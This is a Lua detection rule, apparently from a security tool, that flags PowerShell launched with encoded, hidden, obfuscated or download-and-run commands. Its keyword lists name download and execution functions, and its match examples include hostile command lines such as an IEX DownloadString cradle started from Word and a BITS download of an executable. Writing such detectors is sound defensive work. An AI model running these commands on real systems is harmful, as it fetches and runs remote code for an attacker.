-- PowerShell that hides its window or what it runs.

local command = require "kaiseki.detect.command"
local lineage = require "kaiseki.detect.lineage"
local places = require "kaiseki.detect.places"
local trusted = require "kaiseki.detect.trusted"

-- How management agents get a script past quoting; of the sample's tree it is another matter.
local ENCODED = "an encoded command"
local SCRIPT = "a script from a user's folder"
local DISGUISED, HIDDEN = "a disguised command", "a command without a window"
local SUBJECTS = {
    [DISGUISED] = "disguised-command", [HIDDEN] = "windowless-command",
    [ENCODED] = "encoded-command", [SCRIPT] = "user-script", ["what it downloads"] = "downloaded-commands",
    ["a hidden command"] = "hidden-command", ["a download"] = "download",
}

local DOWNLOADS = {
    "downloadstring", "downloadfile", "downloaddata", "invoke-webrequest", "iwr ", "start-bitstransfer", "webclient",
    "invoke-restmethod", "irm ",
}
local RUNS = { "iex ", "iex(", "invoke-expression", "|iex", "| iex", "frombase64string", "reflection.assembly]::load" }

local function holds(text, words)
    for _, word in ipairs(words) do
        if text:find(word, 1, true) then return true end
    end
    return false
end

-- PowerShell takes any beginning of an option's name.
local function option_begins(each, name, shortest)
    for i = 2, #each.words do
        local option = each.words[i]:lower():match "^[/-](%a+)$"
        if option and #option >= shortest and name:sub(1, #option) == option then return each.words[i + 1] or "" end
    end
    return nil
end

local function is_encoded(each)
    local value = option_begins(each, "encodedcommand", 1) or option_begins(each, "ec", 2)
    return value ~= nil and #value >= 16 and value:find "^[%w+/=]+$" ~= nil
end

local function is_hidden(each)
    local value = option_begins(each, "windowstyle", 1)
    return value ~= nil and (value:lower():find "^h" ~= nil or value == "1")
end

-- Words turned around and put together when they run ('daoL'[-1..-4] -join ''), made of numbers, cut by backticks or
-- put in order by numbers: nobody writes so but to be found by no one.
local function is_disguised(text)
    local turned = text:find "%[%s*%-1%s*%.%.%s*%-" ~= nil
    local numbers = text:find("[char]", 1, true) ~= nil and select(2, text:gsub("%[char%]%s*%(?%d", "")) >= 4
    local ordered = text:find "{%d+}{%d+}{%d+}[^|;]-%-f%f[%A]" ~= nil
    local cut = select(2, text:gsub("%a`%a", "")) >= 4
    return turned or numbers or ordered or cut or text:find("-bxor", 1, true) ~= nil
end

-- Whether the policy on scripts is set aside.
local function is_unrestricted(each)
    local value = option_begins(each, "executionpolicy", 2) or option_begins(each, "ep", 2)
    return value ~= nil and (value:lower() == "bypass" or value:lower() == "unrestricted")
end

-- Whether the command is in the line itself, not in a script's file.
local function is_inline(each)
    return option_begins(each, "file", 1) == nil and each.folded:find "%.ps1%f[%W]" == nil
end

-- A script of a user's place or another drive, given with -File or first.
local function script_of(each, case)
    for i = 2, #each.words do
        local word = places.backslashed(each.words[i]):gsub("^[&%s']+", "")
        if places.extension(word) == "ps1" then
            return (places.in_user_place(word, case) or places.on_other_drive(word, case)) and word or nil
        end
    end
    return nil
end

local function suspicion(each, case)
    if each.program ~= "powershell" and each.program ~= "pwsh" then return nil end
    if is_encoded(each) then return ENCODED end
    local runs, downloads = holds(each.folded, RUNS), holds(each.folded, DOWNLOADS)
    if runs and downloads then return "what it downloads" end
    local decodes = each.folded:find("frombase64string", 1, true) or each.folded:find("getstring(", 1, true)
    if decodes and (each.folded:find "iex%f[%W]" or each.folded:find("invoke-expression", 1, true)
        or each.folded:find("reflection.assembly", 1, true)) then
        return ENCODED
    end
    if is_hidden(each) and (runs or downloads) then return "a hidden command" end
    if is_disguised(each.folded) then return DISGUISED end
    if downloads and places.has_url(each.folded) and places.in_user_place(each.text, case) then
        return "a download"
    end
    if is_hidden(each) and is_inline(each) and (is_unrestricted(each) or places.in_user_place(each.text, case)) then
        return HIDDEN
    end
    return script_of(each, case) and SCRIPT or nil
end

-- Installed programs and their agents work so, and so do administrators from afar.
local function excuse(finding, case)
    local process, what = finding.process, finding.key
    if what ~= ENCODED and what ~= SCRIPT and what ~= HIDDEN then return nil end
    for _, event in ipairs(finding.events) do
        local child = lineage.started(event)
        if child and child.in_tree then return nil end
    end
    if trusted.is_bystander(case, process) then return "low" end
    local by_hand = what == SCRIPT or trusted.is_remote_management(process)
    return by_hand and not lineage.in_tree(process) and "medium" or nil
end

rule {
    id = "execution.powershell",
    title = "Encoded, hidden or downloaded PowerShell",
    severity = "high",
    attack = { "T1059.001" },
    description = "PowerShell is given an encoded command, downloads and runs text without a window, or runs a script "
        .. "that lies where users put files.",
    references = { "https://attack.mitre.org/techniques/T1059/001/" },
    false_positives = { "Management agents encode commands to get them past quoting; package managers install so." },
    author = "kaiseki",
    match = operation:is "Process Create" & child.command_line:contains { "powershell", "pwsh", "^" },
    on_event = function(event, case)
        local what = command.first(event.child.command_line, function(each) return suspicion(each, case) end)
        if not what then return end
        -- Agents and setup programs, too, let nobody see their windows.
        case:finding { process = lineage.requester(event.process), key = what, event = event,
                       severity = what == HIDDEN and "medium" or nil }
    end,
    excuse = excuse,
    finding = function(finding)
        return { "run-powershell", subject = SUBJECTS[finding.key], command = finding.events[1].child.command_line }
    end,
    examples = {
        match = {
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] =
                  [[powershell -w hidden -c $a=[IO.File]::('txeTllAdaeR'[-1..-11] -join '')('C:\Users\x\b.bat')]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] = "powershell -w 1 -ep Unrestricted -nop function a($b){-split($b)}" },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] =
                  [[powershell Start-BitsTransfer -Source http://203.0.113.5/a -Destination C:\ProgramData\a.exe]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "explorer.exe",
              ["child.command_line"] = [[powershell.exe -ExecutionPolicy Bypass -File "C:\Users\x\Downloads\a.ps1"]] },
            { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "winword.exe",
              ["child.command_line"] =
                  [[cmd /c powershell "IEX (New-Object Net.WebClient).DownloadString('http://x')"]] },
        },
        no_match = {
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "agent.exe",
              ["child.command_line"] =
                  [[powershell -w hidden -ep bypass -Command "& 'C:\Program Files\Agent\run.ps1'"]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "explorer.exe",
              ["child.command_line"] = [[powershell -ExecutionPolicy Bypass -File "C:\Program Files\Tool\check.ps1"]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "agent.exe",
              ["child.command_line"] = "powershell -NoProfile -Command Get-Service" },
        },
    },
}
